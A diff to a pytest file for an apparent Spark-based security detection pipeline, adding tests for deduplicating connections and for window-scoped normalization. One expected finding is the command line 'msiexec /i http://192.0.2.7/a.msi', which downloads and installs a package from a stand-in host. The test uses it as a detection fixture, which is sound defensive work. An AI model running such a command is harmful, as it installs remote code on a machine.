@@ -10,8 +10,10 @@ import pytest
 from pyspark.sql import DataFrame, SparkSession
 from pyspark.sql import functions as F
 
+from cli.calls import procnet
 from procnet.detections.catalog import load_detections
 from procnet.errors import DataError
+from procnet.lake.ledger import sources_seen
 from procnet.lake.tables import Lake, in_period
 from procnet.runs.detect import detect
 from procnet.runs.events import read_events
@@ -105,12 +107,27 @@ def test_sources_side_by_side_are_detected_in_place(spark: SparkSession, raw: Pa
     detections = load_detections(settings.detections_folder)
     msiexec = [d for d in detections if d.id.startswith("b0fd38c7")]
     report = detect(spark, settings, WINDOW, msiexec)
+    assert [(h["source"], h["connections"]) for h in sources_seen(lake).collect()] == [("edr", 2)]
     rows = lake.read("findings").orderBy("event_time").collect()
-    told = [(r["source"], r["host"], r["attribution"], r["dest_port"], r["process"], str(r["event_time"])) for r in rows]
+    told = [
+        (r["source"], r["host"], r["attribution"], r["dest_port"], r["process"], str(r["event_time"])) for r in rows
+    ]
     assert told == [
         ("edr", "pc1.corp.example", "host_pid", 443, "msiexec /i http://192.0.2.7/a.msi", "2026-03-02 10:00:04"),
     ], "the connection that lies twice in its table is one"
     assert report.counts["connections"] == 2
+
+
+def test_normalize_replaces_its_window_and_no_more(spark: SparkSession, raw: Path, tmp_path: Path) -> None:
+    argv = ["normalize", "--lake", tmp_path, "--source", "cim", raw / "starts", raw / "connections_delta", "--json"]
+    hour = ["--start", "2026-03-02T10:00Z", "--end", "2026-03-02T11:00Z"]
+    rows = [json.loads(procnet(*argv, *hour).out)["rows"] for _ in range(2)]
+    assert rows == [{"process_events": 1, "network_events": 1}] * 2
+    later = ["--start", "2026-03-02T11:00Z", "--end", "2026-03-02T12:00Z"]
+    assert json.loads(procnet(*argv, *later).out)["rows"] == {"process_events": 0, "network_events": 1}
+    lake = Lake(spark, Settings(lake=tmp_path))
+    times = [str(r[0]) for r in lake.read("network_events").select("event_time").orderBy("event_time").collect()]
+    assert times == ["2026-03-02 10:00:05", "2026-03-02 11:23:20"]
 
 
 def test_a_column_that_is_not_there_is_told(spark: SparkSession, raw: Path, tmp_path: Path) -> None:
